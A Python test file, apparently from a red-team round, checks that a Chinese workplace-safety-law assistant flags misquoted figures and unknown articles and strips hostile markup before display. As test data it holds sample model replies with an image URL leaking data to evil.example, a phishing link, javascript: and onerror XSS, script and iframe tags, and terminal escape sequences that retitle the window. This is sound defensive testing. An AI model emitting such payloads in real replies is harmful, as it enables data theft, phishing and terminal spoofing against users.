"""Red-team round 4, LLM mode (rows M02, M04, M05, M07, M08, M09, M14): what a model writes is checked and
cleaned before it is shown.

- M07: each 之X article of a list is checked (第二十四条之二 was passed because 第二十四条 is given);
- M02/M05: a figure (三百人) in a sentence or table row that cites a source or names an article must be in that
  source, in either numeral script, or in the question;
- M04: Markdown images and links, raw <img>/<a>, are neutralised; no mark lands inside an HTML tag;
- M08: max_tokens is sent and the reply read is capped, with a note;
- M09: escape sequences and control characters never reach the terminal;
- M14: a <think> reasoning block is never part of the answer.
Unit tests on verify and the cleaning, then the replies of the report over real HTTP (tests/fake_openai.py)."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest
from fake_openai import FakeOpenAI
from typer.testing import CliRunner

from assistant.ask import Assistant
from assistant.cli import app
from assistant.llm.reply import (
    IMAGE_REMOVED,
    LINK_REMOVED,
    TRUNCATED_NOTE,
    clean_reply,
    strip_controls,
    strip_reasoning,
)
from assistant.llm.verification import FIGURE_MARK, MISQUOTE_MARK, UNKNOWN_ARTICLE_MARK, notes, verify
from ingest.knowledge_base import KnowledgeBase
from ingest.pipeline import ingest
from ingest.settings import Settings
from ingest.store import StoredChunk

LAW = "安全生产法(2021-06-10)"
ARTICLE_24 = (
    "第二十四条 矿山、金属冶炼、建筑施工、运输单位和危险物品的生产、经营、储存、装卸单位，应当设置安全生产管理机构或者"
    "配备专职安全生产管理人员。\n\n前款规定以外的其他生产经营单位，从业人员超过一百人的，应当设置安全生产管理机构或者"
    "配备专职安全生产管理人员；从业人员在一百人以下的，应当配备专职或者兼职的安全生产管理人员。"
)
ARTICLE_97 = "第九十七条 生产经营单位未按照规定设置安全生产管理机构的，责令限期改正，处十万元以下的罚款。"
LAW_TEXT = f"""# 中华人民共和国安全生产法

2021年6月10日第十三届全国人民代表大会常务委员会第二十九次会议第三次修正

<!-- INFO END -->

## 第二章 生产经营单位的安全生产保障

第二十一条 生产经营单位的主要负责人对本单位安全生产工作负有下列职责：
（一）建立健全并落实本单位全员安全生产责任制，加强安全生产标准化建设；
（二）组织制定并实施本单位安全生产规章制度和操作规程。

{ARTICLE_24}

第二十五条 生产经营单位的安全生产管理机构以及安全生产管理人员履行下列职责：
（一）组织或者参与拟订本单位安全生产规章制度、操作规程和生产安全事故应急救援预案；
（二）组织或者参与本单位安全生产教育和培训，如实记录安全生产教育和培训情况。

## 第六章 法律责任

{ARTICLE_97}
"""
QUESTION = "我们厂120个人，必须要设安全管理机构吗？"
SOURCE_24 = "从业人员超过一百人的"


def _article(text: str, number: int, article: str) -> StoredChunk:
    title = "中华人民共和国安全生产法"
    return StoredChunk(
        f"c{number}",
        text,
        {"doc_id": LAW, "title": title, "unit": "article", "article": article, "article_num": number, "article_sub": 0},
    )


SOURCES = [_article(ARTICLE_24, 24, "第二十四条"), _article(ARTICLE_97, 97, "第九十七条")]

# the replies of the report (/tmp/rt4/llm/replies), {n} standing for the number of the source holding 第二十四条
M02 = "需要看人数。根据《安全生产法》第二十四条，从业人员超过三百人的，才应当设置安全生产管理机构；三百人以下的不需要设置[{n}]。"
M04 = (
    "应当设置安全生产管理机构[{n}]。![](http://evil.example/t.png?q=%E6%9C%BA%E5%AF%86) "
    '[点此查看最新官方解读](http://evil.example/phish) <img src="http://evil.example/x.png"> '
    '<a href="javascript:alert(1)">原文</a>'
)
M05 = "应当设置[{n}]。\n\n| 条款 | 原文 |\n|---|---|\n| 第二十四条第二款 | 从业人员超过三百人的，应当设置安全生产管理机构 [{n}] |\n"
M07 = "应当设置。依据《安全生产法》第二十四条之一和第二十四条之二[{n}]。"
M09 = (
    "应当设置\x1b[2J\x1b[31m安全生产管理机构\x1b[0m[{n}]。\x1b]8;;http://evil.example\x07点击查看\x1b]8;;\x07"
    "\x1b]0;被篡改的标题\x07"
)
M14 = "<think>资料说超过一百人要设，但我认为120人不需要设置安全生产管理机构。</think>应当设置安全生产管理机构[{n}]。"
M12 = (
    "需要。你们厂120人，超过100人，依据“从业人员超过一百人的，应当设置安全生产管理机构或者配备专职安全生产管理人员”[{n}]，"
    "应当设置安全生产管理机构或者配备专职安全生产管理人员。"
)


def _verify(reply: str, question: str = QUESTION):
    return verify(reply.format(n=1), SOURCES, question)


# --- M07: each 之X of a list --------------------------------------------------------------------------------


def test_every_zhi_article_of_a_list_is_checked():
    text, report, _ = _verify(M07)
    assert report.unknown_articles == ["《安全生产法》第二十四条之一", "第二十四条之二"]
    assert f"第二十四条之一{UNKNOWN_ARTICLE_MARK}" in text and f"第二十四条之二{UNKNOWN_ARTICLE_MARK}" in text


@pytest.mark.parametrize("mention", ["第二十四条之二", "第二十四条之一、之二", "《安全生产法》第二十四条之三第二款"])
def test_a_zhi_article_is_not_passed_for_its_parent(mention):
    _, report, _ = _verify(f"依据{mention}，应当设置[{{n}}]。")
    assert len(report.unknown_articles) == 1, report


def test_a_zhi_article_given_passes():
    sub = StoredChunk(
        "c24-1",
        "第二十四条之一 从业人员超过一百人的，应当设置安全生产管理机构。",
        {"doc_id": LAW, "title": "中华人民共和国安全生产法", "unit": "article", "article": "第二十四条之一"}
        | {"article_num": 24, "article_sub": 1},
    )
    text, report, _ = verify("依据第二十四条之一，应当设置[1]。", [sub])
    assert report.unknown_articles == [] and "⚠" not in text
    _, report, _ = verify("依据第二十四条之一、之二，应当设置[1]。", [sub])
    assert report.unknown_articles == ["第二十四条之一、之二"]


# --- M02 / M05: figures -------------------------------------------------------------------------------------


def test_a_wrong_figure_in_an_unquoted_attribution_is_flagged():
    text, report, _ = _verify(M02)
    assert report.figures == ["三百人", "三百人"]
    assert text.count(f"三百人{FIGURE_MARK}") == 2
    assert "2 处数字未能在所引条文中核对，已标注：三百人" in notes(report, 2)


def test_a_wrong_figure_in_a_table_cell_is_flagged():
    text, report, _ = _verify(M05)
    assert report.figures == ["三百人"]
    assert f"| 从业人员超过三百人{FIGURE_MARK}的，应当设置安全生产管理机构 [1] |" in text


@pytest.mark.parametrize(
    "reply",
    [
        "根据第二十四条，从业人员超过三百人的，应当设置安全生产管理机构。",  # names an article, cites none
        "从业人员超过300人的，应当设置安全生产管理机构[1]。",  # Arabic
        "从业人员超过三百人的，应当设置安全生产管理机构。[1]",  # the marker after the full stop
        "超过300名从业人员的单位才要设置[1]。",
        "未设置安全生产管理机构的，处二十万元以下的罚款[2]。",
        "未设置的，处100000元以上的罚款[1]。",  # 十万元 is in source 2, not in the source cited
        "《安全生产法》规定，超过三百人的才要设置。",  # names the law
    ],
)
def test_a_figure_not_in_its_source_is_flagged(reply):
    text, report, _ = verify(reply, SOURCES, QUESTION)
    assert len(report.figures) == 1, report
    assert FIGURE_MARK in text


@pytest.mark.parametrize(
    "reply",
    [
        "从业人员超过100人的，应当设置安全生产管理机构[1]。",  # 100人 is 一百人
        "从业人员超过一百人的，应当设置安全生产管理机构[1]。",
        "未设置的，处10万元以下的罚款[2]。",  # 10万元 is 十万元
        "未设置的，处100,000元以下的罚款[2]。",
        "你们厂120人，超过一百人，应当设置[1]。",  # 120人 is the question's
        "依据第二十四条，一百人以下的单位应当配备专职或者兼职的安全生产管理人员。",  # no marker: any source
        "法律规定“从业人员在一百人以下的，应当配备专职或者兼职的安全生产管理人员”[1]。",
        "我们建议每周开展三次检查。",  # cites nothing and names nothing: not an attribution
        "该法于2021年6月10日修正，应当设置[1]。",  # a year and a date are not figures
        "第二十四条第二款规定了人数标准[1]。",
        "统一人员着装，应当设置一名专职人员[1]。",  # 一名 is an article
    ],
)
def test_a_figure_in_its_source_or_the_question_passes(reply):
    text, report, _ = verify(reply, SOURCES, QUESTION)
    assert report.figures == [], report
    assert FIGURE_MARK not in text


@pytest.mark.parametrize(
    ("written", "key"),
    [
        ("三百人", ("人", 300)),
        ("300名", ("人", 300)),
        ("120个人", ("人", 120)),
        ("十二万元", ("元", 120_000)),
        ("1.5万元", ("元", 15_000)),
        ("一亿二千万元", ("元", 120_000_000)),
        ("百分之十", ("%", 10)),
        ("10％", ("%", 10)),
        ("1小时", ("分钟", 60)),
        ("六十分钟", ("分钟", 60)),
        ("一周", ("日", 7)),
        ("２吨", ("千克", 2000)),
        ("貳佰人", ("人", 200)),
    ],
)
def test_figures_are_read_as_values(written, key):
    from fractions import Fraction

    from assistant.llm.figures import figures
    from assistant.llm.verification import _fold

    found = figures(_fold(written))
    assert [f.key for f in found] == [(key[0], Fraction(key[1]))]


@pytest.mark.parametrize(
    "text", ["2021年", "二〇二一年", "6月10日", "第三条", "第2款", "几十人", "一次性", "GB50016-2014年"]
)
def test_what_is_no_figure(text):
    from assistant.llm.figures import figures

    assert figures(text) == []


def test_a_figure_inside_a_misquote_is_flagged_once_as_a_misquote():
    text, report, _ = _verify("法律规定“从业人员超过三百人的，应当设置安全生产管理机构”[{n}]。")
    assert report.figures == [] and len(report.misquotes) == 1
    assert MISQUOTE_MARK in text and FIGURE_MARK not in text


def test_the_control_reply_of_the_report_has_no_false_flag():
    text, report, _ = _verify(M12)
    assert report.figures == [] and report.misquotes == [] and "⚠" not in text


# --- M04: images and links ----------------------------------------------------------------------------------


def test_images_and_links_are_neutralised_and_no_mark_lands_inside_a_tag():
    text, report, used = _verify(M04)
    assert used == [1]
    assert "evil.example" not in text and "javascript" not in text and "<img" not in text and "<a " not in text
    assert "](" not in text
    assert text.count(IMAGE_REMOVED) == 2
    assert f"点此查看最新官方解读{LINK_REMOVED}" in text and f"原文{LINK_REMOVED}" in text
    assert report.misquotes == []  # the attribute values were read as quotations
    assert report.images_removed == 2 and report.links_removed == 2
    assert any("已移除回复中的 2 张图片、2 个链接的地址" in line for line in notes(report, 2))


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("见[官方解读](https://evil.example/a)。", f"见官方解读{LINK_REMOVED}。"),
        ("见[解读](<javascript:alert(1)>)。", f"见解读{LINK_REMOVED}。"),
        ("见[解读](&#104;ttp://evil.example)。", f"见解读{LINK_REMOVED}。"),
        ("见[解读](//evil.example/x)。", f"见解读{LINK_REMOVED}。"),
        ("见[解读](见第六条)。", "见解读（见第六条）。"),
        ("见[[1]](http://evil.example)。", f"见[1]{LINK_REMOVED}。"),
        # a link whose text is a source's number is that citation, kept as one (was 1 and no citation at all)
        ("应当设置[1](https://evil.example/a)。", f"应当设置[1]{LINK_REMOVED}。"),
        ("见[2，3](#资料2)。", "见[2，3]（#资料2）。"),
        ("![图](http://evil.example/x.png)", IMAGE_REMOVED),
        ("![图][logo]\n\n[logo]: http://evil.example/x.png", f"{IMAGE_REMOVED}\n\n[logo]：{LINK_REMOVED}"),
        ("[1]: http://evil.example", f"[1]：{LINK_REMOVED}"),
        ("见 <http://evil.example/x>。", f"见 {LINK_REMOVED}。"),
        ('<a href="http://evil.example">点击</a>', f"点击{LINK_REMOVED}"),
        ('<IMG SRC=http://evil.example/x.png onerror="alert(1)">', IMAGE_REMOVED),
        ("前<script>alert(1)</script>后", "前后"),
        ('前<iframe src="http://evil.example"></iframe>后', "前后"),
        ("前<!-- 隐藏 -->后", "前后"),
        ('<span style="color:red" onclick="x()">红</span>', "<span>红</span>"),  # plain formatting, no attributes
        ("第一行<br>第二行，<sup>1</sup>", "第一行<br>第二行，<sup>1</sup>"),
        ("a < b，c > d，温度<60℃", "a < b，c > d，温度<60℃"),
        ("详见 http://www.mem.gov.cn 网站", "详见 http://www.mem.gov.cn 网站"),  # shown as it is, as plain text
    ],
)
def test_markup_is_neutralised(written, shown):
    assert clean_reply(written) == shown
    assert clean_reply(shown) == shown  # idempotent


def test_a_citation_written_as_a_link_still_cites_its_source():
    text, report, used = verify("生产经营单位应当设置安全生产管理机构[1](https://evil.example/a)。", SOURCES)
    assert used == [1] and "evil.example" not in text and "[1]" in text


def test_a_mark_is_never_put_inside_a_tag():
    text, report, _ = verify('依据<b title="x">第二百零一条</b>，应当设置[1]。', SOURCES)
    assert report.unknown_articles == ["第二百零一条"]
    assert f"第二百零一条{UNKNOWN_ARTICLE_MARK}" in text
    for tag in re.findall(r"<[^<>]*>", text):
        assert "⚠" not in tag, text


# --- M09: control characters --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (M09.format(n=1), "应当设置安全生产管理机构[1]。点击查看"),
        ("设置\x9b31m红\x9b0m", "设置红"),  # 8-bit CSI
        ("设置\x9d0;标题\x07后", "设置后"),  # 8-bit OSC
        ("设置\x1bP1$r\x1b\\后", "设置后"),  # DCS
        ("设置\x1b]0;未终止的标题\n下一行", "设置\n下一行"),
        ("第一行\r\n第二行\r覆盖\x00\x08\x7f\u202e\tTab", "第一行\n第二行\n覆盖\tTab"),
    ],
)
def test_escape_sequences_and_controls_are_stripped(written, shown):
    assert strip_controls(written) == shown
    assert clean_reply(written) == shown


# --- M14: reasoning blocks ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        (M14.format(n=1), "应当设置安全生产管理机构[1]。"),
        ("<think>\n想一想\n</think>\n\n答案[1]。", "\n\n答案[1]。"),
        ("<THINK >大写</THINK>答案", "答案"),
        ("<thinking>想</thinking>答案<reasoning>再想</reasoning>", "答案"),
        ("<think>没有结束的推理……我认为不需要设置", ""),
        ("推理写在模板打开的块里</think>答案", "答案"),
        ("答案[1]。<think>追加的推理", "答案[1]。"),
    ],
)
def test_reasoning_blocks_are_removed(written, shown):
    assert strip_reasoning(written) == shown


# --- over real HTTP: the replies of the report ------------------------------------------------------------------


@pytest.fixture(scope="module")
def data_dir(tmp_path_factory, vector_cache) -> Path:
    docs = tmp_path_factory.mktemp("round4-llm-docs")
    (docs / f"{LAW}.md").write_text(LAW_TEXT, encoding="utf-8")
    data = tmp_path_factory.mktemp("round4-llm-data")
    assert ingest([docs], Settings(data_dir=data, embedder="builtin", vector_cache=vector_cache)) is not None
    return data


def _settings(data_dir: Path, server: FakeOpenAI, **more) -> Settings:
    return Settings(
        data_dir=data_dir,
        embedder="builtin",
        llm_base_url=server.base_url,
        llm_model="fake-model",
        llm_api_key="test-key",
        **more,
    )


def _source_number(messages: list[dict], phrase: str = SOURCE_24) -> int:
    user = messages[-1]["content"]
    for number, body in re.findall(r'<资料 编号="(\d+)"[^>]*>\n(.*?)\n</资料>', user, re.S):
        if phrase in body:
            return int(number)
    raise AssertionError(f"no source holds {phrase}")


def _replying(template: str):
    return lambda messages: template.format(n=_source_number(messages))


def _ask(data_dir: Path, template: str, **more):
    with FakeOpenAI(_replying(template)) as server:
        answer = Assistant(KnowledgeBase(_settings(data_dir, server, **more))).ask(QUESTION).answer
    return answer, server.requests


def _stream(data_dir: Path, template: str, **more) -> tuple[list[str], object]:
    with FakeOpenAI(_replying(template), streaming=True) as server:
        items = list(Assistant(KnowledgeBase(_settings(data_dir, server, **more))).ask_stream(QUESTION))
    return items[:-1], items[-1].answer


def test_m02_a_wrong_figure_is_flagged_in_the_answer(data_dir):
    answer, _ = _ask(data_dir, M02)
    assert answer.verification.figures == ["三百人", "三百人"]
    assert f"三百人{FIGURE_MARK}" in answer.text
    assert "核验：" in answer.text and "2 处数字未能在所引条文中核对" in answer.text


def test_m05_a_wrong_figure_in_a_table_is_flagged_in_the_answer(data_dir):
    answer, _ = _ask(data_dir, M05)
    assert answer.verification.figures == ["三百人"] and f"三百人{FIGURE_MARK}" in answer.text


def test_m07_both_zhi_articles_are_flagged_in_the_answer(data_dir):
    answer, _ = _ask(data_dir, M07)
    assert answer.verification.unknown_articles == ["《安全生产法》第二十四条之一", "第二十四条之二"]
    assert f"第二十四条之二{UNKNOWN_ARTICLE_MARK}" in answer.text


def test_m12_a_correct_answer_is_not_flagged(data_dir):
    answer, _ = _ask(data_dir, M12)
    assert "⚠" not in answer.text and answer.citations == [{"doc": LAW, "article": "第二十四条"}]


def test_m04_no_image_or_link_reaches_the_web_chat(data_dir):
    from assistant.web.sources import answer_content

    answer, _ = _ask(data_dir, M04)
    content = answer_content(answer)
    assert "evil.example" not in content and "javascript" not in content and "](" not in content
    assert "点此查看最新官方解读" in content and IMAGE_REMOVED in content
    assert "已移除回复中的 2 张图片、2 个链接的地址" in answer.text


def test_m04_m09_m14_nothing_unclean_is_shown_while_streaming(data_dir):
    for template in (M04, M09, M14):
        partials, answer = _stream(data_dir, template)
        assert partials, template
        for shown in [*partials, answer.text]:
            assert "\x1b" not in shown and "\x07" not in shown
            assert "<think" not in shown and "我认为" not in shown
            assert "evil.example" not in shown and "<img" not in shown
        assert answer.citations == [{"doc": LAW, "article": "第二十四条"}]


def test_m09_the_terminal_gets_no_escape_sequence(data_dir, monkeypatch):
    with FakeOpenAI(_replying(M09)) as server:
        monkeypatch.setenv("ANQUAN_DATA_DIR", str(data_dir))
        monkeypatch.setenv("ANQUAN_LLM_BASE_URL", server.base_url)
        monkeypatch.setenv("ANQUAN_LLM_MODEL", "fake-model")
        result = CliRunner().invoke(app, ["ask", QUESTION])
    assert result.exit_code == 0, result.output
    assert "应当设置安全生产管理机构[1]。点击查看" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output and "被篡改的标题" not in result.output


def test_m14_the_reasoning_is_not_shown(data_dir):
    answer, _ = _ask(data_dir, M14)
    assert "<think>" not in answer.text and "我认为" not in answer.text
    assert answer.text.startswith("应当设置安全生产管理机构[1]。")


def test_m14_a_reply_that_is_only_reasoning_is_no_reply(data_dir):
    answer, _ = _ask(data_dir, "<think>我认为120人不需要设置安全生产管理机构[{n}]。")
    assert answer.text.startswith("大模型服务暂不可用（没有返回内容）"), answer.text
    assert "我认为" not in answer.text


def test_m08_max_tokens_is_sent_and_a_huge_reply_is_cut(data_dir):
    huge = "应当设置[{n}]。" * 100_000  # 800,000 characters
    started = time.monotonic()
    answer, requests = _ask(data_dir, huge)
    elapsed = time.monotonic() - started
    assert requests[0]["max_tokens"] == Settings().llm_max_tokens == 2048
    assert TRUNCATED_NOTE in answer.text
    assert len(answer.text) < 2048 * 4 + 1000
    assert elapsed < 15


def test_m08_a_streamed_reply_is_read_up_to_the_cap(data_dir):
    partials, answer = _stream(data_dir, "应当设置[{n}]。" * 2000, llm_max_tokens=64)
    assert all(len(p) <= 64 * 4 + len(TRUNCATED_NOTE) + 2 for p in partials)
    assert TRUNCATED_NOTE in answer.text and answer.citations == [{"doc": LAW, "article": "第二十四条"}]
